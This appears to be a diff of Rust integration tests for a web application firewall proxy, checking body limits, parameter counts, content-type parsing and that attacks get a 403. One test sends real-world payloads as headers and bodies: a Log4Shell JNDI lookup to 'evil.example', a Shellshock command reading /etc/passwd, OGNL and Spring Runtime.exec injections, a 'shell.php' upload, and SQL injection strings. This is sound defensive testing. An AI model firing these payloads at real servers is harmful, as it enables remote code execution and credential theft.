@@ -122,7 +122,7 @@ fn an_attack_is_403_wherever_it_stands_and_the_backend_sees_nothing() {
 fn innocent_bodies_arrive_as_they_were_sent() {
     let backend = TestUpstream::echo();
     let proxy = start(RULES, &backend, "", "");
-    let large: String = (0..500_000).map(|number| format!("{number:09},")).collect();
+    let large: String = (0..300_000).map(|number| format!("\"item {number:09}\",")).collect();
     let mut all = bodies("red shoes and a pair of 'socks'");
     all.push(("application/json", format!("[{}1]", large)));
     all.push(("application/octet-stream", large));
@@ -245,11 +245,21 @@ fn behind_padding_the_configuration_decides() {
     let backend = TestUpstream::echo();
     let prefix = start(RULES, &backend, "", "");
     assert_eq!(post(&prefix, JSON, padded(100_000)).status, 403);
-    assert_eq!(post(&prefix, JSON, padded(200_000)).status, 200);
+    let answer = post(&prefix, JSON, padded(200_000));
+    let padding = record(&prefix, &answer);
+    assert_eq!((answer.status, padding.decision.as_str()), (200, "observe"), "{padding:?}");
+    assert_eq!((padding.reason.as_str(), padding.rules.len()), ("oversized_body", 0));
+    let packed = encode(Coding::Gzip, padded(200_000).as_bytes());
+    let client = prefix.client().method("POST").header(JSON.0, JSON.1).header("content-encoding", "gzip");
+    let answer = client.body(packed).get(HOST, "/form");
+    assert_eq!((answer.status, record(&prefix, &answer).reason.as_str()), (200, "oversized_body"));
+    // A word that is doubtful where all was seen is not where it was not.
+    let walrus = |length| json!({"a": "walrus", "b": "x".repeat(length)}).to_string();
+    assert_eq!([100, 200_000].map(|length| post(&prefix, JSON, walrus(length)).status), [200, 403]);
     let hits = |proxy: &TestProxy| {
         proxy.metric("sunbeam_limit_hits_total", &[("limit", "max_inspected_body_bytes")])
     };
-    assert_eq!(hits(&prefix), 1.0);
+    assert_eq!(hits(&prefix), 3.0);
     let asked = backend.seen().len();
     let block = start(RULES, &backend, "waf.on_oversized_body = \"block\"\n", "");
     let answer = post(&block, JSON, padded(200_000));
@@ -317,16 +327,153 @@ fn bounds_of_bodies_hold_while_they_are_looked_at() {
 }
 
 #[test]
-fn too_many_parameters_are_400_when_enforcing() {
-    let many: String = (0..1_001).map(|number| format!("a{number}=1&")).collect();
+fn too_many_parameters_are_400_whatever_they_are_and_whoever_decides() {
+    let kinds = |count: usize| {
+        let parts = (0..count).map(|number| {
+            format!("--xyz\r\nContent-Disposition: form-data; name=\"a{number}\"\r\n\r\n1\r\n")
+        });
+        [
+            (FORM.1, (0..count).map(|number| format!("a{number}=1&")).collect::<String>()),
+            (JSON.1, json!(vec![1; count]).to_string()),
+            ("multipart/form-data; boundary=xyz", parts.collect::<String>() + "--xyz--\r\n"),
+        ]
+    };
     let backend = TestUpstream::echo();
-    for (mode, want) in [("auto", (200, "observe")), ("enforce", (400, "block"))] {
-        let proxy = start(RULES, &backend, &format!("waf.mode = {mode:?}\n"), "");
-        let answer = post(&proxy, FORM, many.clone());
-        let record = record(&proxy, &answer);
-        let found = (answer.status, record.decision.as_str());
-        assert_eq!((found, record.reason.as_str()), (want, "too_many_parameters"), "{mode}");
-        assert_eq!(proxy.metric("sunbeam_limit_hits_total", &[("limit", "max_parameters")]), 1.0);
+    // What a build for tests takes, a node does not.
+    let roomy = "waf.max_inspected_body_bytes = 4000000\nwaf.regex_budget_ms = 60000\n";
+    for config in ["waf.verdict = \"combined\"\n", "waf.verdict = \"rules\"\n"] {
+        let proxy = start(RULES, &backend, &format!("{roomy}{config}"), "");
+        for (kind, body) in kinds(1_001) {
+            assert_eq!(post(&proxy, ("content-type", kind), body).status, 200, "{kind}, {config}");
+        }
+        for (kind, body) in kinds(10_001) {
+            let answer = post(&proxy, ("content-type", kind), body);
+            let record = record(&proxy, &answer);
+            let found = (answer.status, layer(&record));
+            assert_eq!(found, (400, ("block", "waf", "too_many_parameters")), "{kind}, {config}");
+        }
+        assert_eq!(proxy.metric("sunbeam_limit_hits_total", &[("limit", "max_parameters")]), 3.0);
+        let fewer = start(RULES, &backend, &format!("waf.max_parameters = 1000\n{roomy}{config}"), "");
+        let answer = post(&fewer, FORM, format!("{}q=walrus", "a=1&".repeat(1_000)));
+        assert_eq!(answer.status, 400, "{config}");
+    }
+}
+
+/// Of the project's own rules, or of others, in front of that backend.
+fn own(backend: &TestUpstream, config: &str) -> TestProxy {
+    let text = format!(
+        "{ALONE}{config}\n[[routes]]\nhost_prefix = \"shop\"\nbackend = {:?}\ndisable_secure_redirection = true\n",
+        backend.url()
+    );
+    TestProxy::builder().config(&text).start()
+}
+
+#[test]
+fn attacks_that_the_model_does_not_read_are_certain() {
+    let backend = TestUpstream::echo();
+    let jndi = "${jndi:ldap://evil.example/a}";
+    let shell = "() { :; }; /bin/bash -c 'cat /etc/passwd'";
+    let ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).\
+                (#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}";
+    let spring = "T(java.lang.Runtime).getRuntime().exec(\"id\")";
+    let upload = |name: &str| {
+        format!(
+            "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\
+             Content-Type: text/plain\r\n\r\nhello\r\n--xyz--\r\n"
+        )
+    };
+    let form = "multipart/form-data; boundary=xyz";
+    let mut proxies = vec![("our own", own(&backend, ""))];
+    if let Some(shared) = std::env::var_os("SUNBEAM_SHARED") {
+        let rules = std::path::Path::new(&shared).join("conformance/crs-4.28.0");
+        proxies.push(("CRS", own(&backend, &format!("waf.ruleset = \"crs\"\nwaf.crs_path = {rules:?}\n"))));
+    }
+    for (rules, proxy) in proxies {
+        for (name, value) in [
+            ("x-api-version", jndi),
+            ("user-agent", jndi),
+            ("referer", jndi),
+            ("authorization", jndi),
+            ("user-agent", shell),
+            ("spring.cloud.function.routing-expression", spring),
+        ] {
+            let client = proxy.client().header(name, value);
+            let answer = client.get(HOST, "/");
+            assert_eq!(answer.status, 403, "{rules}, {name}: {:?}", record(&proxy, &answer));
+        }
+        let answer = post(&proxy, ("content-type", ognl), "a=b");
+        assert_eq!(answer.status, 403, "{rules}: {:?}", record(&proxy, &answer));
+        let answer = post(&proxy, ("content-type", form), upload("shell.php"));
+        assert_eq!(answer.status, 403, "{rules}: {:?}", record(&proxy, &answer));
+        let answer = post(&proxy, ("content-type", form), upload("holiday.jpg"));
+        assert_eq!(answer.status, 200, "{rules}: {:?}", record(&proxy, &answer));
+    }
+}
+
+#[test]
+fn a_word_behind_the_type_hides_no_body() {
+    let backend = TestUpstream::echo();
+    let proxy = start(RULES, &backend, "", "");
+    let (_, parts) = multipart(ATTACK);
+    for (kind, body, status) in [
+        ("application/x-www-form-urlencoded x", "q=1'+UNION+SELECT+password+FROM+users--+-".to_owned(), 403),
+        ("application/json foo", json!({"q": ATTACK}).to_string(), 403),
+        // Where it is not certain what a backend takes for the boundary.
+        ("multipart/form-data boundary=xyz", parts.clone(), 400),
+        ("multipart/form-data; x boundary=xyz", parts, 400),
+    ] {
+        let answer = post(&proxy, ("content-type", kind), body);
+        let is_stopped = [status, 403].contains(&answer.status);
+        assert!(is_stopped, "{kind}: {} {:?}", answer.status, record(&proxy, &answer));
+    }
+    // What nobody has read is not clean, however innocent the rest is.
+    let walrus = |kind: &str| {
+        let client = proxy.client().method("POST").header("content-type", kind).body("a=b");
+        client.get(HOST, "/form?animal=walrus").status
+    };
+    assert_eq!(["application/x-unheard-of", "image/png", "text/plain"].map(walrus), [403, 200, 200]);
+}
+
+#[test]
+fn ordinary_bodies_are_read_as_any_server_reads_them() {
+    let backend = TestUpstream::echo();
+    let proxy = start(RULES, &backend, "", "");
+    for value in ["a walk in the park", ATTACK] {
+        let (_, parts) = multipart(value);
+        let document = format!("\u{feff}{}", json!({"q": value}));
+        for (kind, body) in [
+            ("multipart/form-data; boundary=\"xyz\"", &parts),
+            ("multipart/form-data; charset=utf-8; boundary=xyz", &parts),
+            ("multipart/form-data; boundary=xyz; charset=utf-8", &parts),
+            ("application/json", &document),
+        ] {
+            let answer = post(&proxy, ("content-type", kind), body.clone());
+            let record = record(&proxy, &answer);
+            let want = if value == ATTACK { (403, "block") } else { (200, "pass") };
+            assert_eq!((answer.status, record.decision.as_str()), want, "{kind}: {record:?}");
+        }
+    }
+}
+
+#[test]
+fn rules_that_only_look_on_stop_nothing() {
+    let backend = TestUpstream::echo();
+    let attack = "q=1%27+UNION+SELECT+password+FROM+users--+-";
+    for verdict in ["combined", "rules"] {
+        let config = format!("waf.verdict = {verdict:?}\nwaf.mode = \"enforce\"\n");
+        let watched = start(&format!("SecRuleEngine DetectionOnly\n{RULES}"), &backend, &config, "");
+        let answer = post(&watched, FORM, attack);
+        let found = record(&watched, &answer);
+        assert_eq!((answer.status, found.rules.as_slice()), (200, &[1_000_001][..]), "{verdict}");
+        assert_ne!(found.decision, "block", "{verdict}");
+        let off = start(&format!("SecRuleEngine Off\n{RULES}"), &backend, &config, "");
+        let answer = post(&off, FORM, attack);
+        let found = record(&off, &answer);
+        assert_eq!(
+            (answer.status, found.decision.as_str(), found.rules.len()),
+            (200, "pass", 0),
+            "{verdict}"
+        );
     }
 }
 
@@ -412,7 +559,9 @@ fn rules_are_replaced_whole_or_not_at_all() {
     assert_eq!(proxy.metric("sunbeam_config_reload_failed", &[]), 1.0);
     fs::write(&file, "SecRule ARGS \"@contains cat\" \"id:1000301,phase:2,deny,log,t:none,msg:'no cats'\"\n")
         .unwrap();
-    proxy.reload(&config).unwrap();
+    let report = proxy.reload(&config).unwrap().to_string();
+    assert!(report.starts_with("rules reloaded (") && report.ends_with(" rules)"), "{report}");
+    assert_eq!(proxy.reload(&config).unwrap().to_string(), "nothing changed");
     assert_eq!((walruses(&proxy), post(&proxy, FORM, "animal=cat").status), (200, 403));
     assert_eq!(proxy.metric("sunbeam_config_reload_failed", &[]), 0.0);
     // Over the API the same.
